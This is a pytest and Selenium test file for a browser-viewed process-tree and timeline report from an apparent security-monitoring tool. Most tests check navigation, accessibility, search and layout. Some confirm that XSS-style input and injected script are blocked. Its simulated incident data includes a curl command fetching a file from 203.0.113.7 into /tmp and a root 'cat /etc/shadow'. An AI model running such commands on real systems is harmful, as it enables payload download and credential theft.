# SPDX-License-Identifier: Apache-2.0
"""The report in a real browser, opened from a file as a reader opens it.

Frame times are never asserted: how many elements stand in the page says whether it stays smooth.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from functools import partial
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Thread

import pytest

from agent.store.answers import Timeline
from agent.store.report.joining import joined
from tests.agent.store.report.conftest import Page
from tests.agent.store.report.invented import hostile, incident, large, tiny

pytest.importorskip("selenium", reason="the browser's driver is not installed")
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

Open = Callable[[Timeline], Page]
DETAILS = "#process .line"


def range_of(page: Page) -> str:
    return page.text("#range")


@pytest.mark.parametrize("make", [tiny, incident, hostile, partial(large, 300)])
def test_a_page_draws_itself_without_a_complaint_and_without_asking_anybody(
    opened: Open, make: Callable[[], Timeline]
) -> None:
    page = opened(make())
    page.settle()
    assert page.run("return document.documentElement.dataset.ready") == "yes"
    assert page.complaints() == [] and page.requests() == []


def test_no_text_of_others_runs_wherever_it_is_shown(opened: Open) -> None:
    page = opened(hostile())
    page.keys("#list", Keys.HOME)
    for _ in range(len(hostile().happenings)):
        page.keys("#list", Keys.ARROW_DOWN)
    page.keys("#search", "</script>")
    page.run("dispatchEvent(new Event('beforeprint'))")
    assert page.run("return window.pwned") is None
    assert page.run("return document.querySelectorAll('img, svg, iframe, object').length") == 0
    assert page.complaints() == []


def test_what_cannot_be_seen_is_escaped_in_tree_events_and_record(opened: Open) -> None:
    page = opened(hostile())
    shown = " ".join(page.texts("#tree b"))
    for text in ("abc\\u202egnp.exe", "nul\\x00byte", "\\xff\\xfe", "line\\nbreak\\e[31m\\u2028"):
        assert text in shown
    assert not set("\u202e\0\u2028") & set(page.text("body > main"))


def test_code_that_is_not_the_pages_own_is_refused(opened: Open) -> None:
    page = opened(tiny())
    page.run(
        """const s = document.createElement('script');
        s.textContent = 'window.pwned = 1';
        document.body.append(s)"""
    )
    assert page.run("return window.pwned") is None
    assert "Content Security Policy" in page.complaints()[0]


def test_the_browser_would_not_even_load_a_picture(opened: Open) -> None:
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)

    with HTTPServer(("127.0.0.1", 0), Handler) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        page = opened(tiny())
        script = """const done = arguments[1], i = new Image();
            i.onerror = i.onload = (event) => done(event.type); i.src = arguments[0]"""
        url = f"http://127.0.0.1:{server.server_port}/x.png"
        assert page.driver.execute_async_script(script, url) == "error"
        server.shutdown()
    assert asked == []


def test_five_thousand_processes_take_few_elements_and_all_can_be_reached(opened: Open) -> None:
    page = opened(large(5000))
    rows = "return document.querySelectorAll('[role=treeitem]').length"
    assert page.run(rows) < 60
    assert page.run("return document.querySelectorAll('*').length") < 3000
    page.keys("#tree", Keys.END)
    assert "unit" in page.selected() and page.run(rows) < 60
    page.run("document.getElementById('tree').scrollTop = 60000")
    page.settle()
    assert page.run(rows) < 60 and len(page.texts("#tree b")) > 10


def test_the_tree_tells_a_screen_reader_what_it_is(opened: Open) -> None:
    page = opened(incident())
    names = ("role", "aria-level", "aria-expanded", "aria-setsize", "aria-posinset", "aria-selected")
    script = """return [...document.querySelectorAll('#tree .row')]
        .map((row) => arguments[0].map((name) => row.getAttribute(name)))"""
    told = page.run(script, list(names))
    assert told[2] == ["treeitem", "3", "true", "1", "1", "true"]
    assert told[3] == ["treeitem", "4", None, "2", "1", "false"]
    assert page.run("return document.getElementById('tree').getAttribute('role')") == "tree"


def test_the_tree_is_walked_with_the_keys_of_a_tree(opened: Open) -> None:
    page = opened(incident())
    walk = [
        (Keys.HOME, "systemd"),
        (Keys.ARROW_DOWN, "sshd"),
        (Keys.END, "4715"),
        (Keys.ARROW_LEFT, "sudo"),
        (Keys.ARROW_UP, "4713"),
        (Keys.ARROW_RIGHT, "sudo"),
        ("c", "4715"),
        (Keys.HOME, "systemd"),
        (Keys.ARROW_RIGHT, "sshd"),
    ]
    for key, name in walk:
        page.keys("#tree", key)
        assert name in page.selected(), key
    assert "/usr/sbin/sshd" in page.text(DETAILS)


def test_a_branch_is_closed_and_opened_by_key_and_by_mouse(opened: Open) -> None:
    page = opened(incident())
    count = "return document.querySelectorAll('[role=treeitem]').length"
    page.keys("#tree", Keys.ARROW_LEFT)
    assert page.run(count) == 3
    page.keys("#tree", Keys.ARROW_RIGHT)
    assert page.run(count) == 7
    page.click("#tree-2 .twist")
    assert page.run(count) == 3
    page.click("#open-all")
    assert page.run(count) == 7


def test_the_focus_can_be_seen(opened: Open) -> None:
    page = opened(incident())
    page.keys("#search", Keys.TAB)
    page.keys("#open-all", Keys.TAB, Keys.TAB)
    assert page.run("return document.activeElement.id") == "tree"
    assert page.run("return getComputedStyle(document.activeElement).outlineStyle") == "solid"


def test_a_search_leaves_what_was_found_and_the_way_to_it(opened: Open) -> None:
    page = opened(incident())
    page.keys("body", "/")
    page.keys("#search", "SHADOW")
    assert page.text("#found") == "2 of 7"
    assert [line.split(" ")[0] for line in page.texts("#tree b")] == [
        "systemd",
        "sshd",
        "bash",
        "x",
        "sudo",
        "cat",
    ]
    page.keys("#search", Keys.ENTER)
    assert "sudo" in page.selected()
    page.keys("#search", Keys.ENTER)
    assert "4715" in page.selected()
    page.keys("#search", Keys.ESCAPE)
    assert len(page.texts("#tree b")) == 7


def test_a_search_that_finds_nothing_says_so(opened: Open) -> None:
    page = opened(incident())
    page.keys("#search", "nobody has this name")
    assert page.text("#found") == "0 of 7" and page.texts("#tree .row") == []


def test_a_collapsed_tree_of_thousands_opens_where_a_search_leads(opened: Open) -> None:
    page = opened(large(5000))
    page.click("#close-all")
    assert len(page.texts("#tree .row")) == 1
    page.keys("#search", "unit4321.c", Keys.ENTER)
    assert "unit4321.c" in page.selected()


@pytest.mark.parametrize("key", ["+", "="])
def test_the_timeline_is_zoomed_and_moved_by_keys(opened: Open, key: str) -> None:
    page = opened(incident())
    whole = range_of(page)
    page.keys("#plot", key)
    half = range_of(page)
    page.keys("#plot", Keys.ARROW_RIGHT)
    moved = range_of(page)
    page.keys("#plot", "0")
    assert "whole period" in whole and len({whole, half, moved}) == 3 and range_of(page) == whole


def test_a_zoom_narrows_the_events_unless_they_are_unlinked(opened: Open) -> None:
    page = opened(incident())
    assert page.text("#shown") == "44 of 44"
    page.keys("#plot", "+", "+")
    assert int(page.text("#shown").partition(" ")[0]) < 44
    page.click("#linked")
    assert page.text("#shown") == "44 of 44"


def test_the_wheel_belongs_to_the_page_until_the_timeline_has_the_focus(opened: Open) -> None:
    page = opened(incident())
    canvas = page.driver.find_element(By.ID, "canvas")
    turn = ActionChains(page.driver).scroll_from_origin
    from selenium.webdriver.common.actions.wheel_input import ScrollOrigin

    turn(ScrollOrigin.from_element(canvas), 0, -100).perform()
    page.settle()
    assert "whole period" in range_of(page)
    page.run("document.getElementById('plot').focus({preventScroll: true})")
    ActionChains(page.driver).scroll_from_origin(ScrollOrigin.from_element(canvas), 0, -100).perform()
    page.settle()
    assert "whole period" not in range_of(page)


def test_a_period_is_chosen_by_dragging(opened: Open) -> None:
    page = opened(incident())
    canvas = page.driver.find_element(By.ID, "canvas")
    ActionChains(page.driver).move_to_element(canvas).click_and_hold().move_by_offset(
        150, 0
    ).release().perform()
    page.settle()
    assert "whole period" not in range_of(page)
    ActionChains(page.driver).double_click(canvas).perform()
    page.settle()
    assert "whole period" in range_of(page)


FIRST_MARK = """
const canvas = document.getElementById('canvas'), ratio = devicePixelRatio, y = 22 + 24 * arguments[0] + 18;
const row = canvas.getContext('2d').getImageData(0, y * ratio, canvas.width, 1).data;
const lane = document.querySelectorAll('#lanes button')[arguments[0]];
const color = getComputedStyle(lane).color.match(/\\d+/g);
for (let x = 0; x < canvas.width; x++) {
  const near = [0, 1, 2].every((part) => Math.abs(row[4 * x + part] - color[part]) < 40);
  if (near && row[4 * x + 3] > 100) return [x / ratio, y];
}
"""
"""Where the first pixel of a lane's colour is, in pixels of the page."""


def at_event(page: Page, index: int) -> ActionChains:
    """The mouse over an event of the timeline: the first one of lane `index`."""
    x, y = page.run(FIRST_MARK, index)
    canvas = page.driver.find_element(By.ID, "canvas")
    box = canvas.size
    offset = (round(x + 1 - box["width"] / 2), round(y - box["height"] / 2))
    return ActionChains(page.driver).move_to_element_with_offset(canvas, *offset)


def test_the_mouse_over_an_event_tells_what_it_was(opened: Open) -> None:
    page = opened(incident())
    at_event(page, 0).perform()
    page.settle()
    assert page.text("#tip").endswith("x (4713)  Program started from a temporary directory")


def test_a_click_on_an_event_selects_its_process_and_shows_its_record(opened: Open) -> None:
    page = opened(incident())
    at_event(page, 0).click().perform()
    page.settle()
    assert "4713" in page.selected() and "/tmp/x" in page.text(DETAILS)
    assert json.loads(page.text("#raw pre"))["tracehound"]["detection"]["rule"] == "r-1"


def test_events_are_stepped_through_by_keys(opened: Open) -> None:
    page = opened(incident())
    page.keys("#plot", "n", "n")
    assert page.text("#list [aria-selected=true]").endswith(
        "exec /usr/bin/curl -fsSL -o /tmp/x http://203.0.113.7/x"
    )
    page.keys("#plot", "p")
    assert "4711" in page.selected()


def test_a_lane_is_switched_off_for_timeline_and_events(opened: Open) -> None:
    page = opened(incident())
    assert page.texts("#lanes .words") == ["Detections", "Started", "Ended", "Files", "Network"]
    page.click("#lanes button:nth-child(5)")
    assert page.text("#shown") == "11 of 44"


def test_events_are_narrowed_to_a_subtree_and_to_words(opened: Open) -> None:
    page = opened(incident())
    page.click("#tree-4")
    page.keys("#scope", "of the selected one and below")
    assert page.text("#shown") == "39 of 44"
    page.keys("#filter", "shadow cat")
    assert page.text("#shown") == "2 of 44"


def test_several_roots_stand_below_what_was_asked_for(opened: Open) -> None:
    page = opened(joined("pod shop/cart", [tiny(), incident()]))
    assert page.texts("#tree b")[:3] == ["pod shop/cart", "systemd", "sshd"]
    assert page.texts("#process button") == [] and page.complaints() == []
    page.keys("#tree", Keys.END)
    assert "4715" in page.selected()


def test_a_name_in_a_summary_leads_to_its_events(opened: Open) -> None:
    page = opened(incident())
    page.click("#network tbody tr button")
    assert page.text("#shown") == "31 of 44"
    page.click("#files tbody tr:nth-child(2) td:last-child button")
    assert "4715" in page.selected()


def test_summaries_are_sorted_by_their_heads(opened: Open) -> None:
    page = opened(incident())
    first = "#network tbody tr:first-child td:first-child"
    page.click("#network th button")
    up = page.text(first)
    page.click("#network th button")
    assert (up, page.text(first)) == ("[2001:db8::7]:443", "203.0.113.7:80")
    assert page.run("return document.querySelector('#network th').getAttribute('aria-sort')") == "descending"


def test_the_exec_id_is_copied(opened: Open) -> None:
    page = opened(incident())
    origin = {"permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}
    page.driver.execute_cdp_cmd("Browser.grantPermissions", origin)
    page.click("#process button:not(.crumbs button)")
    script = "const done = arguments[0]; navigator.clipboard.readText().then(done, (e) => done(String(e)))"
    assert page.driver.execute_async_script(script) == incident().tree.root.exec_id
    assert page.text("#toast") == "exec_id copied"


def background(page: Page) -> str:
    return str(page.run("return getComputedStyle(document.body).backgroundColor"))


def test_colours_follow_the_system_until_the_reader_chooses(opened: Open) -> None:
    page = opened(incident())
    light = background(page)
    page.media("dark")
    dark = background(page)
    assert light != dark
    page.click("#theme")
    assert background(page) == light and page.text("#theme") == "Colours: light"
    page.click("#theme")
    page.media("light")
    assert background(page) == dark
    page.click("#theme")
    assert background(page) == light and page.text("#theme") == "Colours: system"


def test_paper_is_light_and_has_the_tree_and_the_events_as_text(opened: Open) -> None:
    page = opened(incident())
    page.media("dark", "print")
    page.run("dispatchEvent(new Event('beforeprint'))")
    assert background(page) == "rgb(255, 255, 255)"
    paper = page.text("#paper")
    assert "4715 /usr/bin/cat /etc/shadow  (root, 00:00:08.040, SIGKILL)" in paper
    assert "00:00:08.060000  cat (4715)  open /etc/shadow" in paper
    assert page.run("return getComputedStyle(document.getElementById('paper')).display") == "block"


@pytest.mark.parametrize("width", [360, 800, 1400])
def test_no_window_is_too_narrow_to_reach_everything(opened: Open, width: int) -> None:
    page = opened(incident())
    metrics = {"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": False}
    page.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)
    page.settle()
    overflow = page.run("return document.documentElement.scrollWidth - document.documentElement.clientWidth")
    page.driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
    assert overflow <= 0


def test_a_reader_without_script_sees_head_completeness_and_tree(opened: Open) -> None:
    page = opened(incident())
    page.driver.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": True})
    page.driver.get(page.path.as_uri())
    page.driver.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": False})
    shown = page.driver.find_element(By.TAG_NAME, "body").text
    assert "4715 /usr/bin/cat /etc/shadow" in shown and "May miss processes between" in shown


def test_the_file_is_text_of_one_encoding(opened: Open, tmp_path: Path) -> None:
    page = opened(hostile())
    assert page.path.read_bytes().decode("utf-8") and page.run("return document.characterSet") == "UTF-8"
